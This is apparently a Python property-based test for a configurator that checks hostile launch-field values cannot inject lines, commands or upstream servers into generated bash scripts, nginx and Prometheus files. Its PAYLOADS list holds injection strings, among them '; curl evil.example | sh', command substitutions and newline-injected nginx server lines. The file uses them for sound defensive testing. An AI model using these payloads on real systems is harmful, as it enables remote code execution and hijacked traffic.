"""Issue 13 acceptance: no generated file of any seeded topology contains a line the templates
did not write, whatever the inputs (property test, ≥ 1,000 examples).

Each example puts a hostile string into one field that reaches a file (a node address, the
data NIC, the model path, the image, the served-model name) of one seeded topology (single,
primary/standby, tenant pair, xPyD).  Two things must hold:

1. the request boundary (``configurator.io.requests._check_launch``, which ``/api/plan``, the
   form, ``/configurator/bundle``, ``/quotes/create/`` and ``manage.py plan`` all pass) either
   refuses the value naming the field, or the value matches its grammar exactly;
2. the engine, given the value *directly* (as a plan stored before the boundary existed would
   give it), writes files with exactly the lines of the files it writes for the value it
   should end up with (the value itself if it is valid, else the field's placeholder): every
   script passes ``bash -n`` and tokenises (shlex) into the same command shapes, nginx has the
   same ``server`` lines and Prometheus YAML parses to the same targets.

The layout is resolved once per topology; only the launch inputs vary.
"""

from __future__ import annotations

import functools
import re
import shlex
import subprocess
from dataclasses import replace

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from configurator import reference
from configurator.engine import site_values as sv
from configurator.engine.launch import build_launch, bundle_files
from configurator.engine.layout import resolve_layout
from configurator.io.requests import _check_launch, _Collector
from documents.pdf.sample import sample_request_json

# Topology → the seeded case (configurator.reference.CASES) planned with the sample proposal's launch
# section (documents/pdf/sample.py: every launch field set, so each one reaches the files).
TOPOLOGIES = {
    "single": "4node",  # a3-4-single
    "primary_standby": "8node-standby",  # a3-8-primary-standby
    "tenant_pair": "8node-tenant",  # a3-8-tenant-pair
    "xpyd": "8p8d",  # a3-16-8p8d
}
FIELDS = ("node_ips", "data_nic", "model_path", "image", "served_model_name")
RULES = {
    "node_ips": sv.node_address_error,
    "data_nic": sv.nic_error,
    "model_path": sv.model_path_error,
    "image": sv.image_error,
    "served_model_name": sv.served_name_error,
}

# Shell, nginx, YAML and Markdown metacharacters, line breaks of every kind, NUL.
NASTY = "\n\r\t ;&|$()`'\"\\<>{}[]#*?~!:=,@%^\x00\x0b\x0c\x1b\x85\u2028\u2029\u202e\ufeff"
PAYLOADS = [
    "\ntouch /tmp/pwned\n#",
    "; curl evil.example | sh",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "' ; touch /tmp/pwned ; '",
    '" ; touch /tmp/pwned ; "',
    ":8000 max_fails=2;\n    server evil.example.com",
    "\n  - targets: ['evil.example:80']",
    "\u2028touch /tmp/pwned",
    "\x00",
    " --privileged",
]
HOSTILE = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(alphabet=st.sampled_from(NASTY + "abc019-._/"), min_size=1, max_size=24),
    st.text(max_size=24),
)


@functools.cache
def _base(topology: str):
    req = reference.request(sample_request_json(TOPOLOGIES[topology]))
    assert all(getattr(req.launch, field) for field in FIELDS)  # every hostile field replaces a real value
    assert req.topology.kind.value == topology.replace("xpyd", "disaggregated")
    return req, resolve_layout(req)


def _files(req, layout) -> dict[str, str]:
    return dict(bundle_files(build_launch(req, layout)))


@functools.cache
def _expected(topology: str, field: str, effective: str | None, index: int) -> dict[str, str]:
    """Files for the value the engine should end up with (None: the field left empty)."""
    req, layout = _base(topology)
    return (
        _files(req, layout)
        if effective == "__same__"
        else _files(_set(req, field, effective or "", index), layout)
    )


def _set(req, field: str, value: str, index: int):
    if field == "node_ips":
        ips = list(req.launch.node_ips)
        ips[index] = value
        return replace(req, launch=replace(req.launch, node_ips=tuple(ips)))
    return replace(req, launch=replace(req.launch, **{field: value}))


def _commands(script: str) -> list[int]:
    """Shape of the script: the token count of each command (comments dropped)."""
    lexer = shlex.shlex(script, posix=True, punctuation_chars=";&|")
    lexer.whitespace = " \t\r"
    lexer.commenters = "#"
    shape, count = [], 0
    for tok in lexer:
        if tok == "\n" or tok in (";", "&&", "||", "&", "|", ";;"):
            if count:
                shape.append(count)
            count = 0
        else:
            count += 1
    return shape + ([count] if count else [])


def _targets(text: str) -> list[int]:
    config = yaml.load(text, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))  # libyaml: ≈10× faster
    return [len(sc["targets"]) for job in config["scrape_configs"] for sc in job["static_configs"]]


def _server_lines(text: str) -> int:
    return len(re.findall(r"^\s*server [^{\s]", text, re.M))


def _bash_n(scripts: list[str]) -> bool:
    # One bash per example: every script is complete on its own, so their concatenation parses
    # exactly when each does.
    result = subprocess.run(["bash", "-n"], input="\n".join(scripts).encode(), capture_output=True)
    return result.returncode == 0


def _assert_same_structure(got: dict[str, str], want: dict[str, str]) -> None:
    assert set(got) == set(want)
    for name, text in got.items():
        assert len(text.splitlines()) == len(want[name].splitlines()), name
        if name.endswith(".sh"):
            assert _commands(text) == _commands(want[name]), name
    assert _bash_n([t for n, t in got.items() if n.endswith(".sh")])
    assert _targets(got["monitoring/prometheus.yml"]) == _targets(want["monitoring/prometheus.yml"])
    if "gateway/nginx.conf" in got:
        assert _server_lines(got["gateway/nginx.conf"]) == _server_lines(want["gateway/nginx.conf"])


@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    topology=st.sampled_from(sorted(TOPOLOGIES)),
    field=st.sampled_from(FIELDS),
    prefix=st.sampled_from(["", "10.0.0.1", "eth0", "/data/m", "quay.io/a/b:1", "kimi"]),
    hostile=HOSTILE,
    index=st.integers(min_value=0, max_value=3),
)
def test_no_value_adds_a_line_a_command_or_an_upstream(topology, field, prefix, hostile, index):
    value = prefix + hostile
    req, layout = _base(topology)

    # 1. the boundary: refused naming the field, or the value matches its grammar.
    errs = _Collector()
    launch = _set(req, field, value, index).launch
    _check_launch(launch, errs)
    valid = RULES[field](value) is None
    if not valid and value:
        assert f"launch.{field}" in errs.errors, (field, value)
    if set(value) & set("\n\r ;$`'\"\\|&<>(){}#\x00\u2028\u2029"):
        assert not valid, (field, value)  # no metacharacter ever passes a grammar

    # 2. the engine, given the value directly: it trims site values (not the served name), and
    #    writes a value only if it then matches its grammar.
    engine_value = value if field == "served_model_name" else value.strip()
    engine_valid = bool(engine_value) and RULES[field](engine_value) is None
    got = _files(_set(req, field, value, index), layout)
    want = _expected(topology, field, engine_value if engine_valid else None, index)
    _assert_same_structure(got, want)
    if "pwned" in value and not engine_valid:
        assert all("pwned" not in text for text in got.values())


CATALOG_NAMES = st.one_of(
    st.sampled_from(PAYLOADS), st.text(alphabet=st.sampled_from(NASTY + "ab"), max_size=30)
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    topology=st.sampled_from(sorted(TOPOLOGIES)),
    which=st.sampled_from(["model", "server"]),
    name=CATALOG_NAMES,
)
def test_catalog_names_stay_inside_their_comment_lines(topology, which, name):
    req, layout = _base(topology)
    spec = replace(getattr(req, which), name="Kimi " + name)
    got = _files(replace(req, **{which: spec}), layout)
    _assert_same_structure(got, _expected(topology, "model_path", "__same__", 0))
